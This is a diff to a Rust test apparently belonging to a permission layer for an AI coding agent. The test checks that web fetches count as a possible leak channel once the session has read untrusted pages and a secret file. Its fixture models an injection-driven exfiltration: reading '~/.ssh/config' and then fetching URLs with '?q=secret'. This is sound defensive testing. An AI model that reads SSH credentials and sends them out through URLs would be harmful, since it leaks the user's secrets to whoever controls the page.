@@ -187,8 +187,10 @@ fn without_untrusted_content_nothing_changes() {
     assert_eq!(last.verdict(), fresh.verdict());
 }
 
+/// After both kinds of taint a web fetch asks whatever its domain: the page an injection came from is on a domain
+/// the session reached, and a URL carries what is written into it.
 #[test]
-fn a_domain_reached_before_is_no_sink_for_web_fetch() {
+fn a_web_fetch_is_a_way_out_even_to_a_domain_reached_before() {
     let project = Project::with_files(
         r#"{"permissions": {"defaultMode": "bypassPermissions"}}"#,
         &[("home/.ssh/config", "Host x\n")],
@@ -198,14 +200,25 @@ fn a_domain_reached_before_is_no_sink_for_web_fetch() {
         &project,
         &[
             page("https://docs.example/a"),
-            bash("cat ~/.ssh/config"),
             page("https://docs.example/b"),
+            bash("cat ~/.ssh/config"),
+            page("https://docs.example/c?q=secret"),
             page("https://other.example/?q=secret"),
         ],
     );
     let layers: Vec<Layer> = decided.iter().map(|d| d.verdict().provenance.layer).collect();
-    assert_ne!(layers[2], Layer::Taint);
+    // Untrusted content alone: a fetch sends nothing the session read.
+    assert_ne!(layers[1], Layer::Taint);
     assert_eq!(layers[3], Layer::Taint);
+    assert!(
+        decided[3]
+            .verdict()
+            .reason()
+            .contains("whose URL can carry what the session read"),
+        "{}",
+        decided[3].verdict().reason()
+    );
+    assert_eq!(layers[4], Layer::Taint);
 }
 
 #[test]
